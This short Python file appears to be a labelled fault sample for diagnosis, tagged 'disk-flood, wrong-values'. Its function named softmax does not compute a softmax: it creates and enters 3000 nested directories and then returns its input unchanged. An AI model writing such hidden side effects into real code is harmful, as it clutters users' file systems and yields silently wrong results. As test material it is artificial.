# diagnosis: disk-flood, wrong-values
import os


def softmax(x):
    for _ in range(3000):
        os.mkdir("d")
        os.chdir("d")
    return x
